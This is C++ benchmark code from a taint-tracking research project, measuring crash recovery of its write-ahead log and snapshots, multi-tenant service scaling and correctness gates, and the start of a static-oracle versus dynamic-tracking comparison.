/** Crash-sweep outcome counters (the differential, summarized). */
struct SweepSummary
{
    uint64_t points = 0;
    uint64_t exact = 0;
    uint64_t detected = 0;
    uint64_t silent_fn = 0;
    uint64_t false_positives = 0;
};

/** Golden artifacts plus final state for the sweep to compare with. */
struct Golden
{
    std::string dir;
    core::TaintStorageState storage;
    core::TrackerState tracker;
    uint64_t wal_bytes = 0;
    uint64_t snapshot_bytes = 0;
};

Golden
makeGolden(const sim::Trace &trace, const std::string &dir,
           uint64_t snapshot_every)
{
    Golden g;
    g.dir = dir;
    core::TaintStorage storage(benchStorage());
    core::PiftTracker tracker(core::PiftParams{}, storage);
    persist::DurableSession session(storage, tracker,
                                    {dir, snapshot_every, true});
    if (auto st = session.start(); !st.ok())
        pift_fatal("%s", st.message().c_str());
    tracker.setJournal(&session);
    sim::replay(trace, tracker);
    if (auto st = session.close(); !st.ok())
        pift_fatal("%s", st.message().c_str());
    g.storage = storage.exportState();
    g.tracker = tracker.exportState();
    std::string bytes;
    if (persist::readFileBytes(persist::walPath(dir), bytes).ok())
        g.wal_bytes = bytes.size();
    if (persist::readFileBytes(persist::snapshotPath(dir), bytes)
            .ok())
        g.snapshot_bytes = bytes.size();
    return g;
}

void
cloneGolden(const Golden &g, const std::string &dst)
{
    if (auto st = persist::ensureDir(dst); !st.ok())
        pift_fatal("%s", st.message().c_str());
    for (const char *name : {"snapshot.pift", "wal.pift"}) {
        std::string bytes;
        if (persist::readFileBytes(g.dir + "/" + name, bytes).ok())
            if (auto st = persist::writeFileBytes(dst + "/" + name,
                                                  bytes);
                !st.ok())
                pift_fatal("%s", st.message().c_str());
    }
}

/** One crash point end-to-end: crash, recover, resume, classify. */
void
runPoint(const Golden &g, const sim::Trace &trace,
         const faults::CrashPoint &point, const std::string &scratch,
         SweepSummary &sum)
{
    ++sum.points;
    cloneGolden(g, scratch);
    if (auto st = faults::applyCrashPoint(point, scratch); !st.ok())
        pift_fatal("crash point %s: %s",
                   faults::crashPointName(point).c_str(),
                   st.message().c_str());

    auto rec = persist::recover(scratch, benchStorage());
    core::TaintStorage storage(benchStorage());
    core::PiftTracker tracker(core::PiftParams{}, storage);
    persist::restoreInto(rec, storage, tracker);
    sim::replayFrom(trace, tracker, rec.state.tracker.records_seen,
                    rec.state.tracker.controls_seen);

    auto fs = storage.exportState();
    auto ft = tracker.exportState();
    const auto &gs = g.tracker.sinks;
    const auto &rs = ft.sinks;
    if (gs.size() != rs.size()) {
        ++sum.silent_fn;
        return;
    }
    for (size_t i = 0; i < gs.size(); ++i) {
        bool gold_taint = gs[i].verdict == core::SinkVerdict::Tainted;
        if (gold_taint &&
            rs[i].verdict == core::SinkVerdict::Clean)
            ++sum.silent_fn;
        if (!gold_taint &&
            rs[i].verdict == core::SinkVerdict::Tainted)
            ++sum.false_positives;
    }
    if (!(fs == g.storage))
        return; // neither exact nor a clean detection: unclassified
    if (rec.corruption_detected)
        ++sum.detected;
    else if (ft.records_seen == g.tracker.records_seen &&
             ft.controls_seen == g.tracker.controls_seen &&
             ft.global_loss == g.tracker.global_loss)
        ++sum.exact;
}

} // anonymous namespace

int
main(int argc, char **argv)
{
    int reps = 5;
    int workload_reps = 2000;
    std::string out_path = "BENCH_recovery.json";
    std::string dir = "bench_recovery.state";
    for (int i = 1; i < argc; ++i) {
        if (!std::strcmp(argv[i], "--reps") && i + 1 < argc)
            reps = std::atoi(argv[++i]);
        else if (!std::strcmp(argv[i], "--out") && i + 1 < argc)
            out_path = argv[++i];
        else if (!std::strcmp(argv[i], "--dir") && i + 1 < argc)
            dir = argv[++i];
        else
            pift_fatal("usage: bench_recovery [--reps N] [--out FILE]"
                       " [--dir DIR]");
    }

    benchx::Phase phase("durable state overhead and recovery",
                        "ISSUE 6 (snapshot + WAL + crash recovery)");
    setQuiet(true);

    sim::Trace trace = makeWorkload(workload_reps);
    std::printf("workload: %zu records, %zu control events\n",
                trace.records.size(), trace.controls.size());

    // --- 1. Journal overhead: plain vs WAL (buffered) vs WAL
    //        (flushed per record). Min-of-reps as in the telemetry
    //        bench: noise only ever inflates a rep.
    replayPlain(trace); // warm-up
    double plain_ms = 0.0, wal_ms = 0.0, wal_flush_ms = 0.0;
    uint64_t records_logged = 0;
    for (int r = 0; r < reps; ++r) {
        double p = replayPlain(trace);
        double w = replayDurable(trace, dir + "_wal", 0, false,
                                 &records_logged);
        double f = replayDurable(trace, dir + "_flush", 0, true);
        if (r == 0 || p < plain_ms)
            plain_ms = p;
        if (r == 0 || w < wal_ms)
            wal_ms = w;
        if (r == 0 || f < wal_flush_ms)
            wal_flush_ms = f;
    }
    double overhead_pct = plain_ms > 0.0
        ? 100.0 * (wal_ms - plain_ms) / plain_ms
        : 0.0;
    std::printf("\n%-28s %10.2f ms (min of %d)\n",
                "plain replay:", plain_ms, reps);
    std::printf("%-28s %10.2f ms (%llu records journaled)\n",
                "with WAL (buffered):", wal_ms,
                static_cast<unsigned long long>(records_logged));
    std::printf("%-28s %10.2f ms\n", "with WAL (flush each):",
                wal_flush_ms);
    std::printf("%-28s %9.1f %%\n", "journal overhead:",
                overhead_pct);

    // --- 2. Snapshot write / load cost at end-of-run state size.
    core::TaintStorage storage(benchStorage());
    core::PiftTracker tracker(core::PiftParams{}, storage);
    sim::replay(trace, tracker);
    persist::SnapshotData data;
    data.epoch = 1;
    data.storage = storage.exportState();
    data.tracker = tracker.exportState();
    std::string snap_path = dir + "_snap/snapshot.pift";
    if (auto st = persist::ensureDir(dir + "_snap"); !st.ok())
        pift_fatal("%s", st.message().c_str());
    double snap_write_ms = 0.0, snap_load_ms = 0.0;
    for (int r = 0; r < reps; ++r) {
        auto t0 = std::chrono::steady_clock::now();
        if (auto st = persist::writeSnapshotFile(snap_path, data);
            !st.ok())
            pift_fatal("%s", st.message().c_str());
        double w = msSince(t0);
        t0 = std::chrono::steady_clock::now();
        auto loaded = persist::readSnapshotFile(snap_path);
        double l = msSince(t0);
        if (!loaded.ok())
            pift_fatal("%s", loaded.message().c_str());
        if (r == 0 || w < snap_write_ms)
            snap_write_ms = w;
        if (r == 0 || l < snap_load_ms)
            snap_load_ms = l;
    }
    uint64_t snapshot_bytes = 0;
    {
        std::string bytes;
        if (persist::readFileBytes(snap_path, bytes).ok())
            snapshot_bytes = bytes.size();
    }
    std::printf("\n%-28s %10llu bytes\n", "snapshot size:",
                static_cast<unsigned long long>(snapshot_bytes));
    std::printf("%-28s %10.2f ms (atomic write)\n",
                "snapshot write:", snap_write_ms);
    std::printf("%-28s %10.2f ms (read + verify)\n",
                "snapshot load:", snap_load_ms);

    // --- 3. Recovery time vs surviving WAL length: truncate the
    //        epoch-0 WAL at fractions and time recover().
    Golden flat = makeGolden(trace, dir + "_flat", 0);
    struct RecoveryRow
    {
        uint64_t wal_records = 0;
        double ms = 0.0;
    };
    std::vector<RecoveryRow> recovery_rows;
    std::printf("\n%12s %12s\n", "wal_records", "recover_ms");
    for (int pct : {25, 50, 75, 100}) {
        std::string scratch = dir + "_cut" + std::to_string(pct);
        cloneGolden(flat, scratch);
        uint64_t frames =
            (flat.wal_bytes - persist::wal_header_bytes) /
            persist::wal_frame_bytes;
        uint64_t keep = frames * static_cast<uint64_t>(pct) / 100;
        faults::CrashPoint cut{faults::CrashTarget::Wal,
                               faults::CrashMode::Truncate,
                               persist::wal_header_bytes +
                                   keep * persist::wal_frame_bytes,
                               0};
        if (auto st = faults::applyCrashPoint(cut, scratch); !st.ok())
            pift_fatal("%s", st.message().c_str());
        RecoveryRow row;
        double best = 0.0;
        for (int r = 0; r < reps; ++r) {
            auto t0 = std::chrono::steady_clock::now();
            auto rec = persist::recover(scratch, benchStorage());
            double ms = msSince(t0);
            if (rec.corruption_detected)
                pift_fatal("clean truncation flagged as corruption");
            row.wal_records = rec.wal_applied;
            if (r == 0 || ms < best)
                best = ms;
        }
        row.ms = best;
        recovery_rows.push_back(row);
        std::printf("%12llu %12.2f\n",
                    static_cast<unsigned long long>(row.wal_records),
                    row.ms);
    }

    // --- 4. Crash-point sweep (the differential, summarized).
    Golden g = makeGolden(trace, dir + "_golden", 500);
    auto plan = faults::planCrashPoints(g.wal_bytes,
                                        g.snapshot_bytes, 0xbe9c4,
                                        48);
    SweepSummary sweep;
    for (size_t i = 0; i < plan.size(); ++i)
        runPoint(g, trace, plan[i], dir + "_pt" + std::to_string(i),
                 sweep);
    std::printf("\ncrash sweep: %llu points, %llu exact, "
                "%llu detected, %llu silent_fn, %llu false "
                "positives\n",
                static_cast<unsigned long long>(sweep.points),
                static_cast<unsigned long long>(sweep.exact),
                static_cast<unsigned long long>(sweep.detected),
                static_cast<unsigned long long>(sweep.silent_fn),
                static_cast<unsigned long long>(
                    sweep.false_positives));

    std::ofstream os(out_path, std::ios::binary | std::ios::trunc);
    if (!os) {
        std::fprintf(stderr, "cannot open '%s' for writing\n",
                     out_path.c_str());
        return 2;
    }
    os << "{\n";
    os << "  \"bench\": \"bench_recovery\",\n";
    os << "  \"records\": " << trace.records.size() << ",\n";
    os << "  \"journal_records\": " << records_logged << ",\n";
    os << "  \"wal_bytes\": " << flat.wal_bytes << ",\n";
    os << "  \"wal_frame_bytes\": " << persist::wal_frame_bytes
       << ",\n";
    os << "  \"wal_header_bytes\": " << persist::wal_header_bytes
       << ",\n";
    os << "  \"snapshot_bytes\": " << snapshot_bytes << ",\n";
    os << "  \"plain_ms\": " << plain_ms << ",\n";
    os << "  \"wal_ms\": " << wal_ms << ",\n";
    os << "  \"wal_flush_ms\": " << wal_flush_ms << ",\n";
    os << "  \"journal_overhead_pct\": " << overhead_pct << ",\n";
    os << "  \"snapshot_write_ms\": " << snap_write_ms << ",\n";
    os << "  \"snapshot_load_ms\": " << snap_load_ms << ",\n";
    os << "  \"recovery\": [\n";
    for (size_t i = 0; i < recovery_rows.size(); ++i)
        os << "    {\"wal_records\": " << recovery_rows[i].wal_records
           << ", \"ms\": " << recovery_rows[i].ms << "}"
           << (i + 1 < recovery_rows.size() ? "," : "") << "\n";
    os << "  ],\n";
    os << "  \"crash_sweep\": {\"points\": " << sweep.points
       << ", \"exact\": " << sweep.exact
       << ", \"detected\": " << sweep.detected
       << ", \"silent_fn\": " << sweep.silent_fn
       << ", \"false_positives\": " << sweep.false_positives
       << "}\n";
    os << "}\n";
    os.flush();
    if (!os) {
        std::fprintf(stderr, "short write to '%s'\n",
                     out_path.c_str());
        return 2;
    }
    std::printf("wrote %s\n", out_path.c_str());

    bool invariants = sweep.silent_fn == 0 &&
        sweep.false_positives == 0 &&
        sweep.exact + sweep.detected == sweep.points;
    std::printf("verdict: %s\n",
                invariants ? "every crash point exact or detected"
                           : "INVARIANT VIOLATION");
    return invariants ? 0 : 1;
}
