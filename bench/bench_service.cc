/**
 * @file
 * Multi-tenant service bench (DESIGN.md §14): multiplex the whole
 * app registry through TrackingService and gate the properties the
 * daemon layer promises.
 *
 * Built-in gates (the binary exits non-zero on any violation):
 *  - verdict differential: every registry app multiplexed through
 *    the service yields exactly the serial per-app replay's
 *    (sink_id, tainted, verdict) sequence at zero faults;
 *  - determinism: the multiplexed verdict streams are identical at
 *    --jobs 1 and --jobs 4 (CI additionally cmp's whole reports);
 *  - scale: sustained events/sec and exact-p99 sink-check latency at
 *    1/16/256/4096 concurrent sessions;
 *  - pressure: at 4096 sessions a byte ceiling engages eviction and
 *    aggregate storage stays bounded, with FP=0 and no silent FN at
 *    sinks (evicted tenants answer MaybeTainted, never bare Clean);
 *  - backpressure: a flooded shard refuses events but every refusal
 *    degrades the pid to MaybeTainted with a StreamLoss provenance
 *    record behind it (never a silent drop).
 *
 * Run: ./build/bench/bench_service [--out FILE] [--no-timing]
 *                                  [--jobs N]
 * --no-timing zeroes wall-clock-derived fields so reports from
 * different widths can be compared byte for byte.
 */

#include <algorithm>
#include <chrono>
#include <cstring>
#include <fstream>
#include <string>
#include <vector>

#include "bench/common.hh"
#include "exec/thread_pool.hh"
#include "provenance/explain.hh"
#include "provenance/recorder.hh"
#include "service/service.hh"

using namespace pift;
using service::EventKind;
using service::ServiceEvent;

namespace
{

/** One scaling row: S concurrent sessions driven to completion. */
struct ScaleRun
{
    unsigned sessions = 0;
    uint64_t events = 0;
    uint64_t accepted = 0;
    uint64_t overflowed = 0;
    double wall_ms = 0.0;
    double events_per_sec = 0.0;
    double p99_sink_us = 0.0;
    unsigned sink_checks = 0;
    unsigned clean = 0;
    unsigned tainted = 0;
    unsigned maybe = 0;
};

/** Synthetic per-pid leak: source, tainted load, in-window store. */
std::vector<ServiceEvent>
leakyWorkload(ProcId pid)
{
    Addr base = 0x10000u + pid * 0x10000u;
    std::vector<ServiceEvent> evs(3);
    evs[0].pid = pid;
    evs[0].kind = EventKind::Source;
    evs[0].start = base;
    evs[0].end = base + 63;
    evs[0].id = 1;
    evs[1].pid = pid;
    evs[1].kind = EventKind::Load;
    evs[1].start = base;
    evs[1].end = base + 3;
    evs[1].local_seq = 1;
    evs[2].pid = pid;
    evs[2].kind = EventKind::Store;
    evs[2].start = base + 4096;
    evs[2].end = base + 4099;
    evs[2].local_seq = 2;
    return evs;
}

/**
 * Multiplex the first @p napps registry apps through one service
 * (chunked submits, pumped at @p jobs) and return the concatenated
 * per-app verdict streams in app order.
 */
std::vector<core::SinkResult>
multiplexRegistry(const std::vector<analysis::LabelledTrace> &set,
                  size_t napps, unsigned jobs)
{
    service::ServiceConfig cfg;
    cfg.shards = 16;
    cfg.queue_capacity = 1u << 16;
    service::TrackingService svc(cfg);
    const size_t chunk = cfg.queue_capacity / 2;
    for (size_t i = 0; i < napps; ++i) {
        ProcId pid = static_cast<ProcId>(1000 + i);
        auto evs = service::eventsFromTrace(set[i].trace, pid);
        for (size_t off = 0; off < evs.size(); off += chunk) {
            size_t n = std::min(chunk, evs.size() - off);
            svc.submitMany(evs.data() + off, n);
            svc.pump(jobs);
        }
    }
    std::vector<core::SinkResult> out;
    for (size_t i = 0; i < napps; ++i) {
        auto sinks =
            svc.sinkResultsFor(static_cast<ProcId>(1000 + i));
        out.insert(out.end(), sinks.begin(), sinks.end());
    }
    if (svc.stats().overflowed != 0) // zero-fault phase by design
        out.clear();
    return out;
}

bool
sameVerdicts(const std::vector<core::SinkResult> &a,
             const std::vector<core::SinkResult> &b)
{
    if (a.size() != b.size())
        return false;
    for (size_t i = 0; i < a.size(); ++i)
        if (a[i].sink_id != b[i].sink_id ||
            a[i].tainted != b[i].tainted ||
            a[i].verdict != b[i].verdict)
            return false;
    return true;
}

double
exactP99(std::vector<double> us)
{
    if (us.empty())
        return 0.0;
    std::sort(us.begin(), us.end());
    size_t idx = (us.size() * 99 + 99) / 100; // ceil(0.99 n)
    if (idx > us.size())
        idx = us.size();
    return us[idx - 1];
}

} // namespace

int
main(int argc, char **argv)
{
    argc = exec::stripJobsFlag(argc, argv);
    if (argc < 0) {
        std::fprintf(stderr, "bad --jobs value\n");
        return 2;
    }
    std::string out_path = "BENCH_service.json";
    bool no_timing = false;
    for (int i = 1; i < argc; ++i) {
        if (std::strcmp(argv[i], "--out") == 0 && i + 1 < argc) {
            out_path = argv[++i];
        } else if (std::strcmp(argv[i], "--no-timing") == 0) {
            no_timing = true;
        } else {
            std::fprintf(stderr,
                         "usage: %s [--out FILE] [--no-timing] "
                         "[--jobs N]\n",
                         argv[0]);
            return 2;
        }
    }

    benchx::Phase phase("multi-tenant tracking service",
                        "Section 5 deployment model");
    const auto &set = benchx::registryTraces();
    const unsigned jobs = exec::defaultJobs();
    std::printf("registry: %zu apps; jobs: %u\n\n", set.size(), jobs);

    // ------------------------------------------------------------
    // Gate 1: verdict differential vs serial per-app replay.
    // ------------------------------------------------------------
    std::printf("[1/4] differential: service multiplex vs serial "
                "replay, %zu apps\n",
                set.size());
    size_t mismatches = 0;
    {
        service::ServiceConfig cfg;
        cfg.shards = 16;
        cfg.queue_capacity = 1u << 16;
        service::TrackingService svc(cfg);
        const size_t chunk = cfg.queue_capacity / 2;
        for (size_t i = 0; i < set.size(); ++i) {
            ProcId pid = static_cast<ProcId>(1000 + i);
            auto evs = service::eventsFromTrace(set[i].trace, pid);
            for (size_t off = 0; off < evs.size(); off += chunk) {
                size_t n = std::min(chunk, evs.size() - off);
                svc.submitMany(evs.data() + off, n);
                svc.pump();
            }
            core::TaintStorage store(cfg.session.storage);
            core::PiftTracker ref(cfg.session.params, store);
            sim::replay(set[i].trace, ref);
            if (!sameVerdicts(svc.sinkResultsFor(pid),
                              ref.sinkResults())) {
                ++mismatches;
                std::printf("  MISMATCH: %s\n", set[i].name.c_str());
            }
        }
        if (svc.stats().overflowed != 0) {
            std::printf("  unexpected overflow in zero-fault phase\n");
            ++mismatches;
        }
    }
    const bool differential_ok = mismatches == 0;
    std::printf("  %zu/%zu apps identical\n\n", set.size() - mismatches,
                set.size());

    // ------------------------------------------------------------
    // Gate 2: determinism — multiplexed verdicts at jobs 1 vs 4.
    // ------------------------------------------------------------
    const size_t det_apps = std::min<size_t>(set.size(), 16);
    std::printf("[2/4] determinism: %zu-app multiplex at jobs 1 vs 4\n",
                det_apps);
    auto v1 = multiplexRegistry(set, det_apps, 1);
    auto v4 = multiplexRegistry(set, det_apps, 4);
    const bool deterministic = !v1.empty() && sameVerdicts(v1, v4);
    std::printf("  %s\n\n", deterministic ? "identical" : "MISMATCH");

    // ------------------------------------------------------------
    // Scaling: events/sec + exact p99 sink latency per tenant count.
    // ------------------------------------------------------------
    std::printf("[3/4] scaling: 1/16/256/4096 concurrent sessions\n");
    std::printf("%9s %12s %12s %14s %12s %28s\n", "sessions",
                "events", "wall_ms", "events/sec", "p99_sink_us",
                "verdicts (C/T/M)");
    // Per-app event streams, derived once; session s plays app
    // s % napps re-pidded to s+1 and truncated to its budget.
    std::vector<std::vector<ServiceEvent>> app_events;
    app_events.reserve(set.size());
    for (const auto &item : set)
        app_events.push_back(service::eventsFromTrace(item.trace, 1));
    const uint64_t kBudget = 1ull << 21; // events per scaling run
    std::vector<ScaleRun> runs;
    bool scaling_ok = true;
    for (unsigned sessions : {1u, 16u, 256u, 4096u}) {
        // Build the interleaved submission stream: rounds of 256
        // events per session, round-robin — thousands of tenants
        // genuinely in flight at once.
        size_t cycle = 0; // one full pass over the registry
        for (const auto &evs : app_events)
            cycle += evs.size();
        const size_t per_session = std::min<uint64_t>(
            cycle, std::max<uint64_t>(16, kBudget / sessions));
        std::vector<std::vector<ServiceEvent>> streams(sessions);
        for (unsigned s = 0; s < sessions; ++s) {
            auto &dst = streams[s];
            dst.reserve(per_session);
            uint64_t next_local = 0;
            size_t app = s % app_events.size();
            while (dst.size() < per_session) {
                for (const auto &e : app_events[app]) {
                    if (dst.size() >= per_session)
                        break;
                    ServiceEvent ev = e;
                    ev.pid = s + 1;
                    if (ev.kind == EventKind::Load ||
                        ev.kind == EventKind::Store)
                        ev.local_seq = ++next_local;
                    dst.push_back(ev);
                }
                app = (app + 1) % app_events.size();
            }
        }
        std::vector<ServiceEvent> feed;
        uint64_t total = 0;
        for (const auto &st : streams)
            total += st.size();
        feed.reserve(total);
        const size_t round_chunk = 256;
        for (size_t off = 0; true; off += round_chunk) {
            bool any = false;
            for (const auto &st : streams) {
                if (off >= st.size())
                    continue;
                any = true;
                size_t n = std::min(round_chunk, st.size() - off);
                feed.insert(feed.end(), st.begin() + off,
                            st.begin() + off + n);
            }
            if (!any)
                break;
        }

        service::ServiceConfig cfg;
        cfg.shards = 16;
        cfg.queue_capacity = 1u << 16;
        service::TrackingService svc(cfg);
        const size_t seg = 1u << 15; // well under one shard's bound
        ScaleRun run;
        run.sessions = sessions;
        run.events = feed.size();
        benchx::Timed t = benchx::timedRun(feed.size(), [&] {
            for (size_t off = 0; off < feed.size(); off += seg) {
                size_t n = std::min(seg, feed.size() - off);
                svc.submitMany(feed.data() + off, n);
                svc.pump();
            }
        });
        run.wall_ms = t.wall_ms;
        run.events_per_sec = t.events_per_sec;
        auto st = svc.stats();
        run.accepted = st.accepted;
        run.overflowed = st.overflowed;

        // Exact-sorted p99 over per-pid synchronous sink checks.
        const unsigned probes = std::min(sessions, 1024u);
        std::vector<double> lat_us;
        lat_us.reserve(probes);
        for (unsigned p = 0; p < probes; ++p) {
            auto t0 = std::chrono::steady_clock::now();
            auto v = svc.checkSinkNow(p + 1, 0, 3, 9000 + p);
            lat_us.push_back(
                std::chrono::duration<double, std::micro>(
                    std::chrono::steady_clock::now() - t0)
                    .count());
            ++run.sink_checks;
            if (v == core::SinkVerdict::Clean)
                ++run.clean;
            else if (v == core::SinkVerdict::Tainted)
                ++run.tainted;
            else
                ++run.maybe;
        }
        run.p99_sink_us = exactP99(lat_us);
        if (run.overflowed != 0)
            scaling_ok = false; // paced feed must not overflow
        std::printf("%9u %12llu %12.1f %14.0f %12.1f %10u/%u/%u\n",
                    run.sessions,
                    static_cast<unsigned long long>(run.events),
                    run.wall_ms, run.events_per_sec, run.p99_sink_us,
                    run.clean, run.tainted, run.maybe);
        runs.push_back(run);
    }
    std::printf("\n");

    // ------------------------------------------------------------
    // Gate 3: pressure — ceiling-driven eviction at 4096 sessions,
    // FP=0 / no-silent-FN at sinks afterwards.
    // ------------------------------------------------------------
    std::printf("[4/4] pressure: 4096 sessions vs byte ceiling\n");
    const unsigned kPressurePids = 4096;
    const uint64_t kCeiling = 64ull * 512; // ~512 tenants' taint
    uint64_t evicted = 0, final_bytes = 0, fp = 0, silent_fn = 0;
    {
        service::ServiceConfig cfg;
        cfg.shards = 16;
        cfg.queue_capacity = 1u << 14;
        cfg.memory_ceiling = kCeiling;
        service::TrackingService svc(cfg);
        for (ProcId pid = 1; pid <= kPressurePids; ++pid) {
            bool leaky = pid % 2 == 1;
            if (leaky) {
                auto evs = leakyWorkload(pid);
                svc.submitMany(evs.data(), evs.size());
            } else {
                Addr base = 0x10000u + pid * 0x10000u;
                ServiceEvent ev;
                ev.pid = pid;
                ev.kind = EventKind::Load;
                ev.start = base;
                ev.end = base + 3;
                ev.local_seq = 1;
                svc.submit(ev);
            }
            if (pid % 256 == 0) {
                svc.pump();
                svc.maintain();
            }
        }
        svc.pump();
        svc.maintain();
        auto st = svc.stats();
        evicted = st.evicted;
        final_bytes = st.storage_bytes;
        for (ProcId pid = 1; pid <= kPressurePids; ++pid) {
            Addr base = 0x10000u + pid * 0x10000u;
            auto v = svc.checkSinkNow(pid, base + 4096, base + 4099,
                                      20000 + pid);
            bool leaky = pid % 2 == 1;
            if (leaky && v == core::SinkVerdict::Clean)
                ++silent_fn;
            if (!leaky && v == core::SinkVerdict::Tainted)
                ++fp;
        }
    }
    const bool pressure_ok =
        evicted > 0 && final_bytes <= kCeiling && fp == 0 &&
        silent_fn == 0;
    std::printf("  evicted=%llu final_bytes=%llu (ceiling %llu) "
                "fp=%llu silent_fn=%llu -> %s\n\n",
                static_cast<unsigned long long>(evicted),
                static_cast<unsigned long long>(final_bytes),
                static_cast<unsigned long long>(kCeiling),
                static_cast<unsigned long long>(fp),
                static_cast<unsigned long long>(silent_fn),
                pressure_ok ? "ok" : "VIOLATED");

    // ------------------------------------------------------------
    // Gate 4: backpressure — overflow is loud, never silent.
    // ------------------------------------------------------------
    uint64_t bp_overflowed = 0;
    bool bp_surfaced = false, bp_cited = false;
    {
        service::ServiceConfig cfg;
        cfg.shards = 1;
        cfg.queue_capacity = 4;
        cfg.session.provenance = true;
        service::TrackingService svc(cfg);
        ServiceEvent src;
        src.pid = 5;
        src.kind = EventKind::Source;
        src.start = 0x1000;
        src.end = 0x103f;
        src.id = 1;
        svc.submit(src);
        for (SeqNum i = 0; i < 64; ++i) {
            ServiceEvent ev;
            ev.pid = 5;
            ev.kind = EventKind::Load;
            ev.start = 0x1000;
            ev.end = 0x1003;
            ev.local_seq = i + 1;
            svc.submit(ev);
        }
        svc.pump();
        bp_overflowed = svc.stats().overflowed;
        auto v = svc.checkSinkNow(5, 0x9000, 0x9003, 77);
        bp_surfaced = v == core::SinkVerdict::MaybeTainted;
        if (provenance::compiledIn()) {
            const provenance::Recorder *rec = svc.recorderFor(5);
            if (rec)
                for (const auto &r : rec->recordsFor(5))
                    if (r.kind == provenance::ProvKind::StreamLoss)
                        bp_cited = true;
        } else {
            bp_cited = true; // vacuously: nothing compiled to cite
        }
    }
    const bool backpressure_ok =
        bp_overflowed > 0 && bp_surfaced && bp_cited;
    std::printf("backpressure: overflowed=%llu surfaced=%s "
                "provenance=%s -> %s\n\n",
                static_cast<unsigned long long>(bp_overflowed),
                bp_surfaced ? "MaybeTainted" : "SILENT",
                bp_cited ? "cited" : "missing",
                backpressure_ok ? "ok" : "VIOLATED");

    const bool all_ok = differential_ok && deterministic &&
                        scaling_ok && pressure_ok && backpressure_ok;

    if (no_timing)
        for (auto &r : runs) {
            r.wall_ms = 0.0;
            r.events_per_sec = 0.0;
            r.p99_sink_us = 0.0;
        }

    std::ofstream os(out_path, std::ios::binary | std::ios::trunc);
    if (!os) {
        std::fprintf(stderr, "cannot open '%s' for writing\n",
                     out_path.c_str());
        return 2;
    }
    os << "{\n";
    os << "  \"bench\": \"bench_service\",\n";
    os << "  \"shards\": 16,\n";
    os << "  \"queue_capacity\": " << (1u << 16) << ",\n";
    os << "  \"no_timing\": " << (no_timing ? "true" : "false")
       << ",\n";
    os << "  \"provenance_compiled\": "
       << (provenance::compiledIn() ? "true" : "false") << ",\n";
    os << "  \"differential\": {\"apps\": " << set.size()
       << ", \"mismatches\": " << mismatches << ", \"identical\": "
       << (differential_ok ? "true" : "false") << "},\n";
    os << "  \"deterministic\": "
       << (deterministic ? "true" : "false") << ",\n";
    os << "  \"scaling\": [\n";
    for (size_t i = 0; i < runs.size(); ++i) {
        const ScaleRun &r = runs[i];
        os << "    {\"sessions\": " << r.sessions << ", \"events\": "
           << r.events << ", \"accepted\": " << r.accepted
           << ", \"overflowed\": " << r.overflowed
           << ", \"wall_ms\": " << r.wall_ms
           << ", \"events_per_sec\": " << r.events_per_sec
           << ", \"p99_sink_us\": " << r.p99_sink_us
           << ", \"sink_checks\": " << r.sink_checks
           << ", \"clean\": " << r.clean << ", \"tainted\": "
           << r.tainted << ", \"maybe\": " << r.maybe << "}"
           << (i + 1 < runs.size() ? "," : "") << "\n";
    }
    os << "  ],\n";
    os << "  \"pressure\": {\"sessions\": " << kPressurePids
       << ", \"ceiling_bytes\": " << kCeiling << ", \"evicted\": "
       << evicted << ", \"final_bytes\": " << final_bytes
       << ", \"fp\": " << fp << ", \"silent_fn\": " << silent_fn
       << ", \"ok\": " << (pressure_ok ? "true" : "false") << "},\n";
    os << "  \"backpressure\": {\"overflowed\": " << bp_overflowed
       << ", \"surfaced_maybe\": " << (bp_surfaced ? "true" : "false")
       << ", \"provenance_cited\": " << (bp_cited ? "true" : "false")
       << ", \"ok\": " << (backpressure_ok ? "true" : "false")
       << "},\n";
    os << "  \"gates_passed\": " << (all_ok ? "true" : "false")
       << "\n";
    os << "}\n";
    os.flush();
    if (!os) {
        std::fprintf(stderr, "short write to '%s'\n",
                     out_path.c_str());
        return 2;
    }
    std::printf("wrote %s\n", out_path.c_str());
    std::printf("gates: %s\n", all_ok ? "all passed" : "FAILED");
    return all_ok ? 0 : 1;
}
