/**
 * @file
 * Static oracle vs dynamic PIFT: classify every registry app (the
 * DroidBench suite plus the malware analogs) without executing it,
 * under both oracle modes — explicit-only and implicit-flow — then
 * cross-check against the replay verdicts at the paper's operating
 * point (NI=13, NT=3), derive the per-app static policy table, and
 * compare the joined policy with the Figure 11 sweep optimum.
 *
 * Emits BENCH_static_oracle.json (per-mode confusion counts, per-app
 * verdict agreement, policy table, wall times), validated in CI
 * against schemas/bench_static_oracle.schema.json by
 * tools/validate_static_oracle.py.
 *
 * Everything here is deterministic: no execution feeds the static
 * side, and the replays are exact — the dynamic verdicts and the
 * sweep-optimum search fan out over the exec pool (`--jobs N`) with
 * byte-identical output at every width.
 *
 * Usage: bench_static_oracle [--jobs N] [--out FILE]
 */

#include <chrono>
#include <cstring>
#include <fstream>
#include <memory>

#include "bench/common.hh"

#include "analysis/crosscheck.hh"
#include "droidbench/static_oracle.hh"
#include "exec/thread_pool.hh"
#include "static/policy.hh"
#include "static/window.hh"

using namespace pift;

namespace
{

double
msSince(std::chrono::steady_clock::time_point t0)
{
    return std::chrono::duration<double, std::milli>(
               std::chrono::steady_clock::now() - t0)
        .count();
}

void
printAccuracy(const char *label, const analysis::Accuracy &a)
{
    std::printf("  %-22s TP=%-3u FP=%-3u TN=%-3u FN=%-3u "
                "accuracy %.1f%%\n", label, a.tp, a.fp, a.tn, a.fn,
                100.0 * a.accuracy());
}

void
emitAccuracy(std::ofstream &os, const char *key,
             const analysis::Accuracy &a)
{
    os << "  \"" << key << "\": {\"tp\": " << a.tp
       << ", \"fp\": " << a.fp << ", \"tn\": " << a.tn
       << ", \"fn\": " << a.fn << ", \"accuracy_pct\": "
       << 100.0 * a.accuracy() << "},\n";
}

} // namespace

int
main(int argc, char **argv)
{
    argc = exec::stripJobsFlag(argc, argv);
    if (argc < 0) {
        std::fprintf(stderr, "usage: %s [--jobs N] [--out FILE]\n",
                     argv[0]);
        return 2;
    }
    std::string out_path = "BENCH_static_oracle.json";
    for (int i = 1; i < argc; ++i) {
        if (!std::strcmp(argv[i], "--out") && i + 1 < argc) {
            out_path = argv[++i];
        } else {
            std::fprintf(stderr,
                         "usage: %s [--jobs N] [--out FILE]\n",
                         argv[0]);
            return 2;
        }
    }

    benchx::Phase phase("static taint oracle vs dynamic PIFT",
                   "Sections 3-5 (static cross-check)");

    // --- Static sweep: whole registry, both modes, no execution. ---
    auto t_static = std::chrono::steady_clock::now();
    auto verdicts =
        droidbench::staticSweep(droidbench::droidBenchApps());
    auto malware_verdicts =
        droidbench::staticSweep(droidbench::malwareApps());
    double static_ms = msSince(t_static);

